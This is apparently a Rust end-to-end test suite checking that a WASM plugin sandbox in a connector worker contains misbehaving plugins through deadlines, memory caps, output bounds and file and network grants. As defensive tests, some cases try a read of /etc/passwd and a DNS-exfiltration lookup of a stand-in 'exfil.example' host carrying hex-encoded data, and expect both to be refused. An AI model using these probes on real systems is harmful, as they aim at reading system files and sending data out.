//! A misbehaving plugin hurts nothing but its own task: each test runs one next to a healthy
//! file-source → file-sink pipeline and checks the failure's reason and that every healthy record
//! arrived.

use std::fs::{self, OpenOptions};
use std::io::Write;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

use wharf_e2e::*;

const HEALTHY_LINES: usize = 300;

fn write_lines(path: &Path, range: std::ops::Range<usize>) {
    let mut file = OpenOptions::new().create(true).append(true).open(path).unwrap();
    let text: String = range.map(|i| format!("healthy-{i:06}\n")).collect();
    file.write_all(text.as_bytes()).unwrap();
}

/// A file-source → file-sink pipeline. The sink's name is unique: it names a consumer group.
struct Healthy {
    output: PathBuf,
    sink: String,
}

fn healthy_pipeline(w: &mut Standalone) -> Healthy {
    let (input, output, topic) = (w.path("healthy.in"), w.path("healthy.out"), unique("healthy"));
    write_lines(&input, 0..HEALTHY_LINES);
    let dir = w.dir.path().display().to_string();
    w.add_connector(
        "healthy-src",
        &[
            ("connector.class", "file-source".into()),
            ("file", input.display().to_string()),
            ("topic", topic.clone()),
            ("wasm.fs.read", dir.clone()),
        ],
    );
    let sink = unique("healthy-sink");
    w.add_connector(
        &sink,
        &[
            ("connector.class", "file-sink".into()),
            ("file", output.display().to_string()),
            ("topics", topic),
            ("wasm.fs.write", dir),
        ],
    );
    Healthy { output, sink }
}

fn assert_healthy(worker: &Worker, healthy: &Healthy) {
    let output = &healthy.output;
    worker
        .wait("every healthy record", Duration::from_secs(60), || (count_lines(output) >= HEALTHY_LINES).then_some(()));
    let expected: Vec<String> = (0..HEALTHY_LINES).map(|i| format!("healthy-{i:06}")).collect();
    assert_eq!(read_lines(output), expected);
    for name in ["healthy-src", healthy.sink.as_str()] {
        assert_eq!(worker.task_state_now(name, 0).0, "RUNNING", "{name}");
    }
}

fn misbehaver(w: &mut Standalone, name: &str, behaviour: &str, extra: &[(&str, String)]) -> String {
    let topic = unique(name);
    let mut pairs = vec![
        ("connector.class", "test-misbehaver".to_string()),
        ("behaviour", behaviour.to_string()),
        ("topic", topic.clone()),
    ];
    pairs.extend(extra.iter().cloned());
    w.add_connector(name, &pairs);
    topic
}

fn failed_trace(worker: &Worker, name: &str) -> String {
    worker.wait_task_state(name, 0, "FAILED")["trace"].as_str().unwrap_or_default().to_string()
}

#[test]
fn a_plugin_that_loops_forever_fails_on_the_call_deadline() {
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    misbehaver(&mut w, "spinner", "spin", &[("wasm.call.timeout.ms", "500".into())]);
    let worker = w.start();
    let trace = failed_trace(&worker, "spinner");
    assert!(trace.contains("exceeded wasm.call.timeout.ms=500 in poll"), "{trace}");
    assert_healthy(&worker, &healthy);
}

/// A task whose plugin does not come back from a call is left behind once
/// `task.shutdown.graceful.timeout.ms` has passed, and the worker counts it.
#[test]
fn a_task_that_does_not_stop_in_time_is_counted_past_its_stop_deadline() {
    let mut w = Standalone::new(&[
        ("task.shutdown.graceful.timeout.ms", "500".into()),
        ("wasm.call.timeout.ms", "60000".into()),
    ]);
    misbehaver(&mut w, "napper", "read", &[("sleep.in", "poll".into())]);
    let worker = w.start();
    worker.wait_task_state("napper", 0, "RUNNING");
    assert_eq!(worker.metric("wharf_worker_tasks_past_stop_deadline_total", ""), Some(0.0));
    let (code, answer, _) = worker.call("DELETE", "/connectors/napper", None);
    assert_eq!(code, 204, "{answer}");
    let late = worker.wait("the task left behind, counted", Duration::from_secs(30), || {
        worker.metric("wharf_worker_tasks_past_stop_deadline_total", "").filter(|n| *n >= 1.0)
    });
    assert_eq!(late, 1.0);
    // The plugins it loaded, each counted once by where its code came from.
    let loads: f64 = ["cache", "compiled"]
        .iter()
        .filter_map(|from| worker.metric("wharf_worker_plugin_loads_total", &format!(r#"from="{from}""#)))
        .sum();
    assert!(loads >= 1.0, "{loads}");
}

#[test]
fn a_plugin_that_allocates_past_its_cap_fails_with_the_cap_named() {
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    misbehaver(&mut w, "hog", "hog", &[("wasm.memory.max.bytes", "33554432".into())]);
    let worker = w.start();
    let trace = failed_trace(&worker, "hog");
    assert!(trace.contains("exceeded wasm.memory.max.bytes=33554432 in poll"), "{trace}");
    assert_healthy(&worker, &healthy);
}

#[test]
fn a_plugin_that_returns_too_much_fails_with_the_bound_named() {
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    misbehaver(&mut w, "flood", "flood", &[("wasm.max.records.per.call", "100".into())]);
    let worker = w.start();
    let trace = failed_trace(&worker, "flood");
    assert!(trace.contains("more than wasm.max.records.per.call=100"), "{trace}");
    assert_healthy(&worker, &healthy);
}

#[test]
fn files_are_readable_only_inside_granted_folders() {
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    let granted = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    fs::write(granted.path().join("inside.txt"), "inside the grant\n").unwrap();
    fs::write(outside.path().join("outside.txt"), "outside the grant\n").unwrap();
    misbehaver(&mut w, "passwd", "read", &[("target", "/etc/passwd".into())]);
    let grant = ("wasm.fs.read", granted.path().display().to_string());
    let inside_topic = misbehaver(
        &mut w,
        "inside",
        "read",
        &[("target", granted.path().join("inside.txt").display().to_string()), grant.clone()],
    );
    misbehaver(
        &mut w,
        "outside",
        "read",
        &[("target", outside.path().join("outside.txt").display().to_string()), grant],
    );
    let worker = w.start();

    let trace = failed_trace(&worker, "passwd");
    assert!(trace.contains("cannot read /etc/passwd"), "{trace}");
    let trace = failed_trace(&worker, "outside");
    assert!(trace.contains("outside.txt"), "{trace}");
    worker.wait("the granted file's line in Kafka", Duration::from_secs(30), || {
        (topic_count(&inside_topic) >= 1).then_some(())
    });
    assert_eq!(topic_values(&inside_topic), vec![b"inside the grant".to_vec()]);
    assert_healthy(&worker, &healthy);
}

#[test]
fn tcp_is_refused_unless_the_address_is_granted() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let other_address = other.local_addr().unwrap().to_string();
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    // No grant: no TCP at all (not even a socket, which would take a file descriptor).
    misbehaver(&mut w, "refused", "connect", &[("target", address.clone())]);
    // A grant for another address: the connect is refused by the host, which says so.
    misbehaver(&mut w, "elsewhere", "connect", &[("target", address.clone()), ("wasm.net.connect", other_address)]);
    let allowed_topic =
        misbehaver(&mut w, "allowed", "connect", &[("target", address.clone()), ("wasm.net.connect", address.clone())]);
    // Name lookups: only of the granted host names, so no lookup can carry data out.
    let port = listener.local_addr().unwrap().port();
    let granted = format!("localhost:{port}");
    let lookup_topic = misbehaver(
        &mut w,
        "lookup-granted",
        "lookup",
        &[("target", granted.clone()), ("wasm.net.connect", granted.clone())],
    );
    misbehaver(
        &mut w,
        "lookup-other",
        "lookup",
        &[("target", "73656372657421.exfil.example:80".into()), ("wasm.net.connect", granted.clone())],
    );
    let worker = w.start();
    worker
        .wait("the granted name's lookup", Duration::from_secs(30), || (topic_count(&lookup_topic) >= 1).then_some(()));
    let trace = failed_trace(&worker, "lookup-other");
    assert!(trace.contains("cannot look up 73656372657421.exfil.example:80"), "{trace}");
    worker.wait("the host's log line about the refused lookup", Duration::from_secs(10), || {
        worker.log().contains("refused a name lookup of \"73656372657421.exfil.example\"").then_some(())
    });

    for name in ["refused", "elsewhere"] {
        let trace = failed_trace(&worker, name);
        assert!(trace.contains(&format!("cannot connect to {address}")), "{name}: {trace}");
    }
    worker.wait("the host's log line about the refusal", Duration::from_secs(10), || {
        let log = worker.log();
        (log.contains("refused TcpConnect") && log.contains(&address) && log.contains("[elsewhere|task-0]"))
            .then_some(())
    });
    // Each refusal is counted in the task's metrics; the granted connect and lookup are not.
    let refusals = |connector: &str| {
        worker.metric("wharf_task_grants_refused_total", &format!(r#"connector="{connector}",task="0""#))
    };
    for name in ["elsewhere", "lookup-other"] {
        assert!(refusals(name).is_some_and(|n| n >= 1.0), "{name}: {:?}", refusals(name));
    }
    assert_eq!(refusals("lookup-granted"), Some(0.0));
    worker.wait("the granted connection's record", Duration::from_secs(30), || {
        (topic_count(&allowed_topic) >= 1).then_some(())
    });
    assert_eq!(topic_values(&allowed_topic), vec![b"connected".to_vec()]);
    assert_healthy(&worker, &healthy);
}

#[test]
fn restarting_a_failed_task_brings_it_back() {
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    let folder = tempfile::tempdir().unwrap();
    let target = folder.path().join("later.txt");
    let topic = misbehaver(
        &mut w,
        "late",
        "read",
        &[("target", target.display().to_string()), ("wasm.fs.read", folder.path().display().to_string())],
    );
    let worker = w.start();
    failed_trace(&worker, "late");
    fs::write(&target, "here now\n").unwrap();
    let (code, body, _) = worker.call("POST", "/connectors/late/tasks/0/restart", None);
    assert_eq!(code, 204, "{body}");
    worker.wait_task_state("late", 0, "RUNNING");
    worker.wait("the record after the restart", Duration::from_secs(30), || (topic_count(&topic) >= 1).then_some(()));
    assert_eq!(topic_values(&topic), vec![b"here now".to_vec()]);
    assert_healthy(&worker, &healthy);
}

/// Answers every HTTP request on a loopback port with `204 No Content`, until the test ends.
fn http_server() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut request = [0u8; 4096];
            let _ = std::io::Read::read(&mut stream, &mut request);
            let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
        }
    });
    address
}

#[test]
fn http_is_refused_unless_the_authority_is_granted() {
    let address = http_server();
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    misbehaver(&mut w, "http-refused", "http", &[("target", address.clone())]);
    let allowed_topic = misbehaver(
        &mut w,
        "http-allowed",
        "http",
        &[("target", address.clone()), ("wasm.http.allow", address.clone())],
    );
    let worker = w.start();

    let trace = failed_trace(&worker, "http-refused");
    assert!(trace.contains("HttpRequestDenied"), "{trace}");
    worker.wait("the host's log line about the refusal", Duration::from_secs(10), || {
        let log = worker.log();
        (log.contains("refused HTTP request") && log.contains(&address) && log.contains("[http-refused|task-0]"))
            .then_some(())
    });
    worker.wait("the granted request's status", Duration::from_secs(30), || {
        (topic_count(&allowed_topic) >= 1).then_some(())
    });
    assert_eq!(topic_values(&allowed_topic), vec![b"204".to_vec()]);
    assert_healthy(&worker, &healthy);
}

#[test]
fn a_plugin_that_returns_too_many_bytes_fails_with_the_bound_named() {
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    misbehaver(&mut w, "bulky", "bulky", &[("wasm.max.bytes.per.call", "1048576".into())]);
    // Source partitions and offsets count too.
    misbehaver(&mut w, "fat-offsets", "bulky-offsets", &[("wasm.max.bytes.per.call", "1048576".into())]);
    // 2,000 records whose values all point at one buffer of 32 KiB: copied out, 62.5 MiB, which
    // wasmtime's own default bound on one copy (128 MiB) would let through.
    misbehaver(&mut w, "aliased", "aliased", &[("wasm.max.bytes.per.call", "1048576".into())]);
    let worker = w.start();
    for name in ["bulky", "fat-offsets", "aliased"] {
        let trace = failed_trace(&worker, name);
        assert!(trace.contains("more than wasm.max.bytes.per.call=1048576"), "{name}: {trace}");
    }
    let trace = failed_trace(&worker, "aliased");
    assert!(trace.contains("the host stopped copying"), "{trace}");
    assert_healthy(&worker, &healthy);
}

#[test]
fn a_sink_record_larger_than_one_call_may_carry_fails_the_task_naming_it() {
    let mut w = Standalone::new(&[]);
    let healthy = healthy_pipeline(&mut w);
    let topic = unique("big-records");
    create_topic(&topic, 1, "delete");
    produce(&topic, 0, "small", b"small");
    produce(&topic, 0, "big", &vec![b'x'; 600 * 1024]);
    let dir = w.dir.path().display().to_string();
    w.add_connector(
        "big-sink",
        &[
            ("connector.class", "file-sink".into()),
            ("file", w.path("big.out").display().to_string()),
            ("topics", topic.clone()),
            ("wasm.fs.write", dir),
            ("wasm.max.bytes.per.call", "524288".into()),
        ],
    );
    let worker = w.start();
    let trace = failed_trace(&worker, "big-sink");
    assert!(
        trace.contains(&format!("the record at {topic}-0 offset 1 is"))
            && trace.contains("more than wasm.max.bytes.per.call=524288"),
        "{trace}"
    );
    assert_healthy(&worker, &healthy);
}
